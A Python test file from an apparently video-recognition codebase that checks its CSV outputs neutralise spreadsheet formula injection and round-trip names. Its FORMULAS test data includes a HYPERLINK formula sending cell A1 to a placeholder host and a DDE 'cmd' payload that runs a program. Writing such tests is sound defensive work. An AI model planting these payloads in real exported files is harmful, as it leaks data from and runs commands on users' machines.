"""Names in csv files: no spreadsheet runs them, and they come back as they were."""

from __future__ import annotations

import csv
import io
import itertools
from pathlib import Path

import numpy as np
import pytest

from amd_hf.data.checking import write_clean_list
from amd_hf.data.loading import load_video_dataset
from amd_hf.detection import score_submission
from amd_hf.detection.evaluation import DetectionResult, write_detection_report
from amd_hf.evaluation.multiview import MultiViewResult
from amd_hf.evaluation.prediction import HEADERS, VideoPrediction, as_csv_lines, as_dict
from amd_hf.evaluation.report import draw_confusion_matrix, write_class_table
from amd_hf.outputs.csv_text import csv_line, guard_cell, original_cell


FORMULAS = [
    '=HYPERLINK("http://a.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "'=1+1",
    "＝1+1",
]
HARMLESS = ["plain", "it's", "'quoted'", "a=b", "a, b", 'say "x"', "", "walk-run", "1.5"]


def _is_formula(cell: str) -> bool:
    """What a spreadsheet looks at, said another way than the code does."""
    return cell.lstrip(" ")[:1] in ("=", "+", "-", "@", "＝", "＋", "－", "＠") or cell[:1] in ("\t", "\r", "\n")


def _read(path: Path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as file:
        return list(csv.reader(file))


@pytest.mark.parametrize("name", [*FORMULAS, *HARMLESS])
def test_text_in_a_line_is_no_formula_and_comes_back(name: str) -> None:
    ((cell, number),) = csv.reader([csv_line([name, -3])])
    assert not _is_formula(cell)
    assert original_cell(cell) == name
    assert number == "-3"  # numbers stay numbers
    assert (cell == name) == (name in HARMLESS)


def test_no_two_texts_become_one() -> None:
    texts = ["".join(letters) for length in range(5) for letters in itertools.product("'=- a\t", repeat=length)]
    guarded = [guard_cell(text) for text in texts]
    assert len(set(guarded)) == len(texts)
    assert [original_cell(text) for text in guarded] == texts


def test_class_table_guards_names_and_the_matrix_draws_them(tmp_path: Path) -> None:
    names = [*FORMULAS, "costs $5 or $6_", r"$\frac{"]
    outcomes = [
        {"video_id": "a", "label": 0, "probabilities": np.eye(len(names))[1]},
        {"video_id": "b", "label": 1, "probabilities": np.eye(len(names))[1]},
    ]
    result = MultiViewResult(outcomes, names)
    write_class_table(result, tmp_path / "per_class.csv")
    header, *rows = _read(tmp_path / "per_class.csv")
    assert [original_cell(row[1]) for row in rows] == names
    assert original_cell(rows[0][header.index("most_confused_with")]) == names[1]
    assert not any(_is_formula(cell) for row in rows for cell in row)
    pytest.importorskip("matplotlib")
    draw_confusion_matrix(result, tmp_path / "matrix.png")


@pytest.mark.parametrize("name", FORMULAS)
def test_predictions_guard_videos_labels_and_errors(name: str) -> None:
    good = VideoPrediction(name, [(None, np.array([0.25, 0.75]))])
    bad = VideoPrediction(name, [], error=name)
    text = HEADERS["csv"] + "".join(as_csv_lines(as_dict(one, {0: "a", 1: name}, 2)) for one in (good, bad))
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert [original_cell(row["video"]) for row in rows] == [name] * 3
    assert [original_cell(row["label"]) for row in rows] == [name, "a", ""]
    assert original_cell(rows[2]["error"]) == name
    assert not any(_is_formula(cell) for row in rows for cell in row.values())


def _detections(video: str, action: str) -> DetectionResult:
    box = np.array([[0.1, 0.1, 0.5, 0.5]])
    outcome = {
        "video_id": f"{video},0902", "boxes": box.tolist(), "actions": [[0]], "test_boxes": box,
        "scores": np.array([[0.9]], dtype=np.float32),
    }  # fmt: skip
    return DetectionResult([outcome], [action])


@pytest.mark.parametrize("video", ["=1+1|x", "@a", "+b", "a,b", "-1+1", "plain"])
def test_detections_are_guarded_and_scored_by_their_own_names(video: str, tmp_path: Path) -> None:
    result = _detections(video, "=run()")
    write_detection_report(result, tmp_path)
    ((cell, *_),) = _read(tmp_path / "detections.csv")
    assert not _is_formula(cell)
    assert original_cell(cell) == video
    assert original_cell(_read(tmp_path / "per_class.csv")[1][0]) == "=run()"
    with open(tmp_path / "truth.csv", "w", newline="") as file:
        csv.writer(file).writerow([video, "0902", 0.1, 0.1, 0.5, 0.5, 1])
    (tmp_path / "actions.pbtxt").write_text('label { name: "run" label_id: 1 }\n')
    files = (tmp_path / name for name in ("detections.csv", "truth.csv", "actions.pbtxt"))
    assert score_submission(*files)["map"] == pytest.approx(1.0)


def test_names_of_ava_stay_as_the_official_program_knows_them(tmp_path: Path) -> None:
    _detections("-5KQ66BBWC4", "run").write_csv(tmp_path / "detections.csv")
    assert (tmp_path / "detections.csv").read_text().startswith("-5KQ66BBWC4,0902,")


def test_clean_list_guards_paths_and_is_read_back(tmp_path: Path) -> None:
    names = ["=1+1.mp4", "+b.mp4", "'=c.mp4", "d, e.mp4", "@f/g.mp4"]
    rows = []
    for name in names:
        path = tmp_path / name
        path.parent.mkdir(exist_ok=True)
        path.write_bytes(b"")
        rows.append({"video": {"path": str(path), "bytes": None}, "video_id": name, "label": 1})
    listed = write_clean_list(rows, tmp_path)
    assert not any(_is_formula(cell) for row in _read(listed.file) for cell in row)
    again = load_video_dataset(listed.file, root=listed.root)
    assert list(again["video_id"]) == names
